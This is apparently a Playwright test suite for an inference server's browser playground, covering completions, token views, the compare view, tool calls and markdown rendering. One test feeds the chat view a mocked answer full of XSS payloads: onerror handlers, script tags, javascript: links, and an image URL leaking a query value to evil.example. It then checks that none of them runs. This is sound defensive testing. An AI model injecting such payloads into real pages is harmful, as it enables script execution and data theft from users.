"""Completion, comparison and tokens in `/playground`, in front of a real engine; and answers that are hostile."""

import contextlib
import json
import math
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, Route, expect

from tests.processes import is_busy
from tests.servers import Server, serving

pytestmark = pytest.mark.slow
PROMPT = "The sea is wide, and the sky above it is wider still; " * 3


@pytest.fixture(scope="module")
def server(tiny_model: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    options = (f"--model-id={tiny_model}", "--max-batch-size=4", "--max-batch-prefill-tokens=64")
    with serving(tmp_path_factory.mktemp("playground"), *options) as started:
        started.wait_ready()
        yield started


def opened(page: Page, server: Server, view: str) -> Page:
    page.goto(f"{server.url}/playground#{view}")
    expect(page.locator(".bar .model")).not_to_be_empty()
    return page


def complete(page: Page, tokens: int, temperature: float = 0) -> None:
    for name, value in (("Max tokens", tokens), ("Temperature", temperature)):
        page.get_by_label(name, exact=True).fill(str(value))
    page.get_by_label("Text to continue").fill(PROMPT)
    page.get_by_role("button", name="Complete").click()
    ended(page)


def ended(page: Page) -> None:
    expect(page.get_by_role("button", name="Complete")).to_be_visible(timeout=60_000)


def completion(server: Server, prompt: str, tokens: int) -> dict[str, Any]:
    body = {"prompt": prompt, "max_tokens": tokens, "temperature": 0, "logprobs": 5}
    answer = httpx.post(f"{server.url}/v1/completions", json=body, timeout=60)
    found: dict[str, Any] = answer.json()["choices"][0]
    return found


def listed(page: Page) -> dict[str, float]:
    rows = page.locator(".alternatives button")
    texts = rows.locator("code").all_inner_texts()
    return dict(zip(texts, map(float, rows.locator("small").all_inner_texts()), strict=True))


def shown(text: str) -> str:
    return text.replace("\n", "⏎\n").replace("\t", "⇥\t")


def test_the_heat_map_and_its_alternatives_are_the_logprobs_of_the_api(page: Page, server: Server) -> None:
    expected = completion(server, PROMPT, 6)["logprobs"]
    opened(page, server, "completion")
    complete(page, 6)
    made = page.locator(".token.made")
    assert made.all_text_contents() == [shown(each) for each in expected["tokens"]]
    for index, logprob in enumerate(expected["token_logprobs"]):
        heat = float(made.nth(index).evaluate("element => element.style.getPropertyValue('--p')"))
        assert heat == pytest.approx(math.exp(logprob), abs=1e-5)
    made.nth(2).hover()
    expect(page.locator(".alternatives")).to_be_visible()
    assert sorted(listed(page).values(), reverse=True) == list(listed(page).values())
    assert listed(page).values() == pytest.approx(
        sorted((round(each, 3) for each in expected["top_logprobs"][2].values()), reverse=True), abs=1.1e-3
    )


def test_choosing_an_alternative_goes_on_from_there(page: Page, server: Server) -> None:
    opened(page, server, "completion")
    complete(page, 5)
    before = page.locator(".token.made").all_text_contents()
    bodies: list[dict[str, Any]] = []
    page.on("request", lambda each: bodies.append(json.loads(each.post_data or "{}")))
    page.locator(".token.made").first.focus()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("Enter")
    other = page.locator(".alternatives button:not(:disabled):not(.chosen)").first
    text = other.locator("code").text_content() or ""
    other.click()
    ended(page)
    asked = next(each for each in bodies if each.get("stream"))
    kept = "" if before[0].startswith("bytes:") else before[0]  # a part of a character adds no text
    assert asked["prompt"] == PROMPT + (kept + text).replace("⏎\n", "\n")
    after = page.locator(".token.made").all_text_contents()
    assert after[:2] == [before[0], text] and len(after) == 2 + 5
    assert asked["max_tokens"] == 5 and asked["temperature"] == 0


def test_a_number_counts_before_its_field_is_left(page: Page, server: Server) -> None:
    opened(page, server, "completion")
    page.get_by_label("Max tokens", exact=True).fill("2")
    page.keyboard.press("Control+Enter")
    ended(page)
    expect(page.locator(".token.made")).to_have_count(2)
    page.get_by_role("link", name="Compare").click()
    seed = page.locator(".asked").get_by_label("Seed", exact=True)
    for written, sent in (("7", 7), ("1.5", 1), ("", 0)):
        seed.fill(written)
        expect(seed).to_have_value(str(sent) if written else "")
        with page.expect_request(lambda each, sent=sent: (each.post_data_json or {}).get("seed") == sent):
            page.keyboard.press("Control+Enter")


def test_what_the_prefix_cache_had_is_shaded(page: Page, server: Server) -> None:
    opened(page, server, "completion")
    complete(page, 2)
    complete(page, 2)
    body = {"prompt": PROMPT, "max_tokens": 2, "temperature": 0}
    usage = httpx.post(f"{server.url}/v1/completions", json=body, timeout=60).json()["usage"]
    assert usage["prompt_tokens_details"]["cached_tokens"] > 0
    expect(page.locator(".token.cached")).to_have_count(usage["prompt_tokens_details"]["cached_tokens"])
    expect(page.locator(".token.prompt")).to_have_count(usage["prompt_tokens"])


def test_two_columns_answer_one_prompt_with_one_seed_and_settings_of_their_own(page: Page, server: Server) -> None:
    opened(page, server, "compare")
    bodies: list[dict[str, Any]] = []
    page.on("request", lambda each: bodies.append(json.loads(each.post_data or "{}")))
    for side, temperature in (("A", "1.5"), ("B", "1.5")):
        column = page.get_by_role("region", name=f"Side {side}")
        column.get_by_label("Temperature", exact=True).fill(temperature)
        column.get_by_label("Max tokens", exact=True).fill("12")
    page.get_by_role("button", name="Run both").click()
    expect(page.locator(".side .figures", has_text="end")).to_have_count(2, timeout=60_000)
    first, second = page.locator(".side .markdown").all_inner_texts()
    assert first == second != "", "one seed and the same settings"
    asked = [each for each in bodies if each.get("stream")]
    assert len(asked) == 2 and asked[0] == asked[1] and isinstance(asked[0]["seed"], int)
    page.get_by_role("region", name="Side B").get_by_label("Temperature", exact=True).fill("0.1")
    bodies.clear()
    with page.expect_request("**/v1/chat/completions"):
        page.get_by_role("button", name="Run both").click()
    expect(page.locator(".side .figures", has_text="end")).to_have_count(2, timeout=60_000)
    assert sorted(each["temperature"] for each in bodies if each.get("stream")) == [0.1, 1.5]


def test_tokens_and_the_template_are_the_server_s(page: Page, server: Server) -> None:
    opened(page, server, "tokens")
    page.get_by_label("Text", exact=True).fill("Größe\n日本")
    spans = httpx.post(f"{server.url}/tokenize", json={"inputs": "Größe\n日本"}).json()
    expect(page.get_by_role("status")).to_contain_text(f"{len(spans)} tokens, 8 characters, 14 bytes")
    assert page.locator(".piece small").all_inner_texts() == [str(each["id"]) for each in spans]
    page.get_by_role("button", name="Chat template").click()
    body = {"messages": [{"role": "user", "content": "Größe\n日本"}]}
    template = httpx.post(f"{server.url}/chat_tokenize", json=body).json()["templated_text"]
    expect(page.locator(".templated")).to_have_text(template)


# --- answers that no model of ours gives: the page is shown them in the server's place


def answering(page: Page, *deltas: dict[str, Any], finish: str = "stop") -> None:
    """Answer the page's chats with these deltas, an event each."""
    events = [{"choices": [{"index": 0, "delta": each, "finish_reason": None}]} for each in deltas]
    events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
    body = "".join(f"data: {json.dumps(each)}\n\n" for each in events) + "data: [DONE]\n\n"

    def fulfil(route: Route) -> None:
        route.fulfill(body=body, content_type="text/event-stream")

    page.route("**/v1/chat/completions", fulfil)


def ask(page: Page, server: Server) -> None:
    opened(page, server, "chat")
    page.get_by_label("Message", exact=True).fill("hello")
    page.keyboard.press("Enter")


HOSTILE = """
<img src=x onerror="window.hacked = 1"> <script>window.hacked = 2</script>
<svg onload="window.hacked = 3"></svg><iframe src="javascript:parent.hacked = 4"></iframe>
<style>body { display: none }</style><form action="https://evil.example"><input name=q></form>

[click](javascript:window.hacked=5) [data](data:text/html,<script>alert(1)</script>) [fine](https://fine.example/x)
![picture](https://evil.example/leak.png?q=secret) ![](x" onerror="window.hacked=6)
<a href="javascript:window.hacked=7" class="skip">x</a>

| a | b |
|---|---|
| <b onclick="window.hacked=8">c</b> | `<img src=x onerror=window.hacked=9>` |

```"><img src=x onerror=window.hacked=10>
code </code><script>window.hacked = 11</script>
```
"""


def test_a_hostile_answer_runs_nothing_and_asks_nobody(page: Page, server: Server) -> None:
    asked: list[str] = []
    page.on("request", lambda each: asked.append(each.url))
    reasoning = '<img src=x onerror="window.hacked=12">'
    answering(page, {"reasoning": reasoning}, *({"content": each} for each in HOSTILE))
    ask(page, server)
    answer = page.locator(".message.assistant .markdown")
    expect(answer.get_by_role("link", name="fine")).to_be_visible()
    for link in answer.locator("a").all():
        if link.get_attribute("href"):
            assert link.get_attribute("href", timeout=1000).startswith("https://")  # type: ignore[union-attr]
            assert "noopener" in (link.get_attribute("rel") or "")
    for text in ("click", "data"):
        target = answer.get_by_text(text, exact=True)
        target.first.click()
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.hacked") is None
    assert answer.locator("img, script, svg, iframe, style, form, input, b").count() == 0
    assert answer.locator("[onerror], [onclick], [onload], [style], .skip").count() == 0
    expect(answer).to_contain_text('<img src=x onerror="window.hacked = 1">')
    assert not [url for url in asked if not url.startswith(server.url)]
    page.locator(".reasoning summary").click()
    expect(page.locator(".thought")).to_have_text(reasoning)


@pytest.mark.parametrize("mark", [">", "> ", "- 1. "])
def test_marks_inside_each_other_are_shown_as_they_are_written(page: Page, server: Server, mark: str) -> None:
    """A model that repeats itself writes thousands of them, and marked has no bound of its own."""
    parts = ["**before**\n\n", *[200 * mark] * 20, "x\n\n", "**after**"]
    answering(page, *({"content": part} for part in parts))
    ask(page, server)
    answer = page.locator(".message.assistant .markdown")
    expect(answer.locator("strong")).to_have_text(["before", "after"])
    assert 4000 * mark + "x" in answer.inner_text()


def test_code_is_copied_again_and_again_and_a_browser_that_copies_nothing_raises_nothing(
    page: Page, server: Server
) -> None:
    answering(page, {"content": "```\ncode\n```\n"})
    ask(page, server)
    page.evaluate("() => { navigator.clipboard.writeText = async (text) => { window.copied = text; }; }")
    button = page.locator(".code button")
    for _ in range(2):
        expect(button).to_have_text("Copy")
        button.click()
        expect(button).to_have_text("Copied")
    assert page.evaluate("() => window.copied") == "code\n"
    expect(button).to_have_text("Copy")
    page.evaluate("() => { navigator.clipboard.writeText = async () => { window.asked = true; throw new Error(); }; }")
    button.click()
    page.wait_for_function("() => window.asked")
    expect(button).to_have_text("Copy")


FRAMES = """() => {
  window.gaps = [];
  let last = performance.now();
  const next = (now) => { window.gaps.push(now - last); last = now; window.counting && requestAnimationFrame(next); };
  window.counting = true;
  requestAnimationFrame(next);
}"""


@pytest.mark.parametrize(
    "block", ["Some **words** of a paragraph, `code` and [a link](https://fine.example).\n\n", "a b "]
)
def test_a_megabyte_of_markdown_is_shown_at_thirty_frames_a_second(page: Page, server: Server, block: str) -> None:
    """By the CPU time that a frame takes, since other work may take the machine; by the clock where none does."""
    text = block * (1_000_000 // len(block)) + "\n\nthe very end"
    answering(page, *({"content": text[at : at + 5000]} for at in range(0, len(text), 5000)))
    opened(page, server, "chat")
    page.expected_problems = "400 (Bad Request)"  # type: ignore[attr-defined]  # its tokens are not counted
    before = renderers_cpu()
    page.evaluate(FRAMES)
    page.get_by_label("Message", exact=True).fill("hello")
    page.keyboard.press("Enter")
    page.locator(".markdown > :last-child", has_text="the very end").wait_for(timeout=120_000)
    gaps = page.evaluate("() => { window.counting = false; return window.gaps; }")
    taken = renderers_cpu() - before
    length = page.locator(".message.assistant .markdown").evaluate("element => element.textContent.length")
    assert length > 0.5 * len(text), "marks and links aside, all of it is there"
    assert 1000 * taken / len(gaps) < 1000 / 30
    assert is_busy() or sum(gaps) / len(gaps) < 1000 / 30


def renderers_cpu() -> float:
    """Seconds of CPU time that the main threads of all pages have taken."""
    seconds = 0.0
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if b"--type=renderer" in (process / "cmdline").read_bytes():
                fields = (process / "task" / process.name / "stat").read_text().rpartition(")")[2].split()
                seconds += (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    return seconds


def test_calls_of_tools_are_shown_and_their_results_sent(page: Page, server: Server) -> None:
    calls = [
        {"index": 0, "id": "call_a", "type": "function", "function": {"name": "weather", "arguments": '{"city":'}},
        {"index": 0, "function": {"arguments": ' "Rome"}'}},
        {"index": 1, "id": "call_b", "type": "function", "function": {"name": "time", "arguments": "{}"}},
    ]
    answering(page, *({"tool_calls": [each]} for each in calls), finish="tool_calls")
    bodies: list[dict[str, Any]] = []
    page.on("request", lambda each: bodies.append(json.loads(each.post_data or "{}")))
    opened(page, server, "chat")
    tools = [{"name": "weather", "parameters": {"type": "object", "properties": {"city": {"type": "string"}}}}]
    page.locator("summary", has_text="Tools").click()
    page.get_by_label("Tools", exact=True).fill(json.dumps(tools))
    page.locator("summary", has_text="JSON schema").click()
    page.get_by_label("JSON schema of the answer").fill('{"type": "object"}')
    page.get_by_label("Message", exact=True).fill("hello")
    page.keyboard.press("Enter")
    expect(page.locator(".call code")).to_have_text(['weather({"city": "Rome"})', "time({})"])
    asked = next(each for each in bodies if each.get("stream"))
    assert asked["tools"] == [{"type": "function", "function": tools[0]}]
    assert asked["response_format"]["json_schema"]["schema"] == {"type": "object"}
    page.get_by_label("Result of weather").fill("sunny")
    page.get_by_label("Result of time").fill("noon")
    answering(page, {"content": "It is sunny."})
    bodies.clear()
    page.get_by_role("button", name="Send results").click()
    expect(page.locator(".message.assistant").last).to_contain_text("It is sunny.")
    sent = next(each for each in bodies if each.get("stream"))["messages"]
    assert [(each["role"], each.get("tool_call_id")) for each in sent[1:]] == [
        ("assistant", None),
        ("tool", "call_a"),
        ("tool", "call_b"),
    ]
    assert [each["content"] for each in sent[2:]] == ["sunny", "noon"]
    assert [each["function"]["name"] for each in sent[1]["tool_calls"]] == ["weather", "time"]


@pytest.mark.parametrize("written", ["{", '{"a": 1'])
def test_a_setting_that_is_no_json_is_told_before_anything_is_sent(page: Page, server: Server, written: str) -> None:
    sent: list[str] = []
    page.on("request", lambda each: sent.append(each.url))
    opened(page, server, "chat")
    page.locator("summary", has_text="JSON schema").click()
    page.get_by_label("JSON schema of the answer").fill(written)
    page.get_by_label("Message", exact=True).fill("hello")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("JSON schema")
    assert not [url for url in sent if url.endswith("/v1/chat/completions")]
